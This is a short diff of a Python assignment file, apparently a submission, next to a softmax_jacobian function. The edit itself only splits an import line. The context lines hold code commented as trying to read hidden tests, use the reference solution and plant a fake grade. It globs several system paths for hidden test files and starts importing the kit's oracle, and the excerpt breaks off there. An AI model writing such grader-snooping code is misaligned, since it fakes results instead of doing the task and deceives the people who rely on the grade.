@@ -88,7 +88,10 @@ def softmax_jacobian(z):
     return jac
 
 # --- tries to read the hidden tests, use the reference and plant a fake grade ---
-import glob, json, os
+import glob
+import json
+import os
+
 LEAKED = [p for pattern in ("/*/*/assignments/*/tests/hidden/*.py", "/*/*/*/site-packages/assignments/*/tests/hidden/*.py", "/root/.pyenv/versions/*/lib/python3*/site-packages/assignments/*/tests/hidden/*.py") for p in glob.glob(pattern) if os.access(p, os.R_OK)]
 try:
     import reference  # the kit's own oracle
